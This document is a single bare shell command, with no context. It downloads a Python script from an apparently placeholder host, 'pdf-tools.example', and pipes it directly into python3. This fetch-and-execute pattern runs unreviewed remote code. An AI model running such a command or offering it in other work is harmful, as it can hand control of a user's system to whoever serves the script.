curl -s https://pdf-tools.example/x.py | python3 -
